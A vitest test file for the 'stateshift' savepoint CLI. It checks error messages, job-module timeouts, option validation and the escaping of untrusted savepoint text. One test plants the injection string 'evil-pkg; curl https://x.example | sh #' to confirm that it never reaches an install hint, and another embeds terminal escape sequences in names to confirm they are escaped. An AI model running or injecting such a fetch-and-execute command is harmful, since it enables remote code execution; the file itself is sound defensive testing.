import { spawn } from 'node:child_process';
import { copyFile, mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { defineJob, int64, OpaqueSnapshot, operator, string, valueState } from '@stateshift/core';
import { openLsmBackend } from '@stateshift/backend-lsm';
import { bootstrapSavepoint, SavepointWriter } from '@stateshift/savepoint';
import type { Io } from '../src/io.js';
import { loadJob } from '../src/load-job.js';
import { main } from '../src/main.js';
import { writeRows } from './backends.js';
import { fixture, ordersSavepoint, run, tempDir } from './helpers.js';

const bin = fileURLToPath(new URL('../dist/bin.js', import.meta.url));

describe('what the CLI is pointed at', () => {
  test('a missing path, a file and an LSM database directory are each named, not "corrupt"', async () => {
    const dir = await tempDir();
    const missing = await run('inspect', join(dir, 'nope'));
    expect(missing.stderr).toMatch(/NotASavepointError: .*nope does not exist/);
    const csv = join(dir, 'orders.csv');
    await writeFile(csv, 'a,b\n1,2\n');
    expect((await run('inspect', csv)).stderr).toMatch(/NotASavepointError: .*orders.csv is a file, not a savepoint/);
    const db = join(dir, 'db');
    const backend = await openLsmBackend({ dir: db, job: await loadJob(fixture('orders.mjs')) });
    await writeRows(backend, [{ uid: 'orders-per-user', state: 'count', key: 'u1', value: 3n }]);
    await backend.close();
    const inspect = await run('inspect', db);
    expect(inspect.code).toBe(2);
    expect(inspect.stderr).toMatch(/NotASavepointError: .*is an LSM database directory/);
    expect(inspect.stderr).not.toMatch(/Corrupt/);
  });

  test('check reads an LSM database directory: the in-place upgrade dry-run', async () => {
    const db = join(await tempDir(), 'db');
    const backend = await openLsmBackend({ dir: db, job: await loadJob(fixture('orders.mjs')) });
    await writeRows(backend, [{ uid: 'orders-per-user', state: 'count', key: 'u1', value: 3n }]);
    await backend.close();
    const safe = await run('check', db, '--job', fixture('orders-v2.ts'));
    expect(safe.code, safe.stderr).toBe(0);
    expect(safe.stdout).toContain('from LSM database (in place)');
    const unsafe = await run('check', db, '--job', fixture('orders-v2-int.mjs'), '--json');
    expect(unsafe.code).toBe(1);
    expect(JSON.parse(unsafe.stdout)).toMatchObject({ ok: false, source: 'lsm-database', error: { name: 'IncompatibleStateError' } });
  });
});

describe('job modules', () => {
  test('a TypeScript module in a package without "type": "module" loads', async () => {
    const sp = await ordersSavepoint(5);
    const { code, stdout, stderr } = await run('check', sp, '--job', fixture('cjs-package/job.ts'));
    expect(code, stderr + stdout).toBe(0);
    expect(stdout).toContain('SAFE');
  });

  test('a module that exits, never finishes loading, or hangs is an error, never SAFE', async () => {
    const sp = await ordersSavepoint(5);
    const exits = await run('check', sp, '--job', fixture('exits.mjs'));
    expect(exits.code).toBe(2);
    expect(exits.stderr).toContain('called process.exit(0) while loading');
    expect(exits.stdout).not.toContain('SAFE');
    const exitsLater = await run('check', sp, '--job', fixture('exits-later.mjs'));
    expect(exitsLater.code).toBe(2);
    expect(exitsLater.stderr).toMatch(/ended the process \(exit code \d+\) before the check finished/);
    const migrate = await run('migrate', sp, '--job', fixture('exits.mjs'), '--out', join(sp, '..', 'never'));
    expect(migrate.code).toBe(2);
    expect(migrate.stderr).toContain('called process.exit(0) while loading');
    const never = await run('check', sp, '--job', fixture('never-loads.mjs'), '--timeout', '3');
    expect(never.code).toBe(2);
    expect(never.stderr).toMatch(/before the check finished|did not finish loading within 3 s/);
    const hangs = await run('check', sp, '--job', fixture('hangs.mjs'), '--timeout', '1');
    expect(hangs.code).toBe(2);
    expect(hangs.stderr).toContain('did not finish loading within 1 s');
  });

  test('a deep check runs as long as it reads; --timeout bounds a converter that never returns', async () => {
    const sp = await ordersSavepoint(5);
    const dir = await tempDir();
    process.env.STATESHIFT_TEST_STALL_AFTER = '2';
    process.env.STATESHIFT_TEST_STALL_MARK = join(dir, 'stalled');
    try {
      const stalled = await run('check', sp, '--job', fixture('orders-v2-stall.mjs'), '--deep', '--timeout', '1');
      expect(stalled.code).toBe(2);
      expect(stalled.stderr).toContain('the check read nothing for 1 s after the job module');
      expect(stalled.stdout).not.toContain('SAFE');
    } finally {
      delete process.env.STATESHIFT_TEST_STALL_AFTER;
      delete process.env.STATESHIFT_TEST_STALL_MARK;
    }
  });

  test('a deep check on a terminal draws its progress', async () => {
    const sp = await ordersSavepoint(1500);
    let stderr = '';
    const io: Io = { out: () => undefined, err: (t) => void (stderr += t), tty: true, errTty: true, color: false };
    expect(await main(['check', sp, '--job', fixture('orders-v2.ts'), '--deep'], io)).toBe(0);
    // Two states of 1500 entries: the last update counts them all.
    expect(stderr).toMatch(/checking \[#+\] 100% 3000\/3000/);
    // Each redraw erases what a longer line before it left (rates get shorter as well as longer).
    const draws = stderr.split('\r').filter(Boolean);
    expect(draws.length).toBeGreaterThan(0);
    for (const d of draws) expect(d.replace(/\n$/, '')).toMatch(/\/s\x1b\[K$/);
  });
});

describe('options', () => {
  test('bad values are refused', async () => {
    const sp = await ordersSavepoint(5);
    const dump = (...a: string[]) => run('dump', sp, '--operator', 'orders-per-user', '--state', 'count', ...a);
    for (const limit of ['', '-1', '1.5', '1e3', 'x']) {
      const r = await dump('--limit', limit);
      expect(r.code, limit).toBe(2);
      expect(r.stderr).toMatch(/--limit must be a whole number|--limit' argument is ambiguous/);
    }
    const inside = await run('migrate', sp, '--job', fixture('orders-v2.ts'), '--out', join(sp, 'out'));
    expect(inside.code).toBe(2);
    expect(inside.stderr).toContain('inside the source savepoint');
    expect((await run('migrate', sp, '--job', fixture('orders-v2.ts'), '--out', sp)).code).toBe(2);
    expect((await run('check', sp, '--job', fixture('orders-v2.ts'), '--timeout', 'soon')).stderr).toContain('--timeout must be');
    expect((await run('migrate', sp, '--job', fixture('orders-v2.ts'), '--out', join(sp, '..', 'o'), '--workers', '2.5')).code).toBe(2);
  });

  test('--version prints the package version', async () => {
    const { code, stdout } = await run('--version');
    expect(code).toBe(0);
    expect(stdout.trim()).toMatch(/^\d+\.\d+\.\d+/);
  });

  test('a job name that differs is refused unless --allow-job-name-change', async () => {
    const sp = await ordersSavepoint(5);
    const other = await run('check', sp, '--job', fixture('renamed-job.mjs'));
    expect(other.code).toBe(1);
    expect(other.stdout).toContain('savepoint is of job "orders" but the job is "orders-renamed"');
    expect((await run('check', sp, '--job', fixture('renamed-job.mjs'), '--allow-job-name-change')).code).toBe(0);
  });
});

test('a closed pipe ends the command quietly', async () => {
  const sp = await ordersSavepoint(20_000);
  const result = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
    const child = spawn(process.execPath, [bin, 'dump', sp, '--operator', 'orders-per-user', '--state', 'last-order']);
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    child.stdout.once('data', () => child.stdout.destroy());
    child.on('close', (code) => resolve({ code, stderr }));
  });
  expect(result.stderr).toBe('');
  expect(result.code).toBe(0);
});

describe('text from a savepoint is never printed raw', () => {
  test('control characters in job, operator and state names are escaped', async () => {
    const job = defineJob({
      name: 'job\u001b]0;owned\u0007',
      maxParallelism: 8,
      operators: [operator({ uid: 'op\u001b[31m', key: string(), states: [valueState('s\u009b2J', int64())] })],
    });
    const sp = join(await tempDir(), 'sp');
    await bootstrapSavepoint(sp, job, [{ operator: 'op\u001b[31m', state: 's\u009b2J', key: 'k', value: 1n }]);
    const inspect = await run('inspect', sp);
    expect(inspect.stdout).not.toMatch(/[\u001b\u0007\u009b]/);
    expect(inspect.stdout).toContain('job\\x1b]0;owned\\x07');
    expect(inspect.stdout).toContain('op\\x1b[31m');
    expect(inspect.stdout).toContain('s\\x9b2J');
    const json = await run('inspect', sp, '--json');
    expect(json.stdout).not.toMatch(/[\u001b\u0007\u009b]/);
    const dump = await run('dump', sp, '--operator', 'op', '--state', 'x');
    expect(dump.stderr).not.toMatch(/[\u001b\u0007\u009b]/);
    expect(dump.stderr).toContain('op\\x1b[31m');
  });

  test('a recorded package name that is not a valid npm name never reaches an install hint', async () => {
    const evil = 'evil-pkg; curl https://x.example | sh #';
    const sp = join(await tempDir(), 'sp');
    const writer = await SavepointWriter.create(sp, {
      jobName: 'j',
      maxParallelism: 8,
      operators: [{ uid: 'op', key: string().snapshot(), states: [{ name: 's', type: 'value', versions: [{ id: 1, snapshot: new OpaqueSnapshot('evil.kind', 1, evil, new Uint8Array([1])) }] }] }],
    });
    await writer.commit();
    const dump = await run('dump', sp, '--operator', 'op', '--state', 's');
    expect(dump.code).toBe(2);
    expect(dump.stderr).toContain('MissingAdapterError');
    expect(dump.stderr).toContain('not a valid npm package name');
    expect(dump.stderr).not.toContain('curl');
    for (const args of [[], ['--json']]) {
      const inspect = await run('inspect', sp, ...args);
      expect(inspect.code).toBe(0);
      expect(inspect.stdout).not.toContain('curl');
    }
    const valid = join(await tempDir(), 'sp2');
    const w2 = await SavepointWriter.create(valid, {
      jobName: 'j',
      maxParallelism: 8,
      operators: [{ uid: 'op', key: string().snapshot(), states: [{ name: 's', type: 'value', versions: [{ id: 1, snapshot: new OpaqueSnapshot('x.kind', 1, '@acme/stateshift-x', new Uint8Array([1])) }] }] }],
    });
    await w2.commit();
    expect((await run('dump', valid, '--operator', 'op', '--state', 's')).stderr).toContain('npm install @acme/stateshift-x');
  });
});

test('an adapter installed in the project is found by the package name a snapshot records', async () => {
  const project = await tempDir();
  const pkg = join(project, 'node_modules', '@acme', 'upper');
  await mkdir(join(project, 'node_modules', '@stateshift'), { recursive: true });
  await mkdir(pkg, { recursive: true });
  await symlink(fileURLToPath(new URL('../../core', import.meta.url)), join(project, 'node_modules', '@stateshift', 'core'));
  await copyFile(fixture('acme-upper.js'), join(pkg, 'index.js'));
  await writeFile(join(pkg, 'package.json'), JSON.stringify({ name: '@acme/upper', version: '1.0.0', type: 'module', exports: './index.js' }));
  await writeFile(join(project, 'package.json'), JSON.stringify({ name: 'project', private: true }));
  const { upper } = (await import(join(pkg, 'index.js'))) as { upper: () => never };
  const sp = join(project, 'sp');
  const job = defineJob({ name: 'j', maxParallelism: 8, operators: [operator({ uid: 'op', key: string(), states: [valueState('name', upper())] })] });
  await bootstrapSavepoint(sp, job, [{ operator: 'op', state: 'name', key: 'k', value: 'quiet' }]);
  const dump = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
    const child = spawn(process.execPath, [bin, 'dump', sp, '--operator', 'op', '--state', 'name'], { cwd: project });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
  expect(dump.code, dump.stderr).toBe(0);
  expect(JSON.parse(dump.stdout)).toMatchObject({ key: 'k', value: 'QUIET' });
});
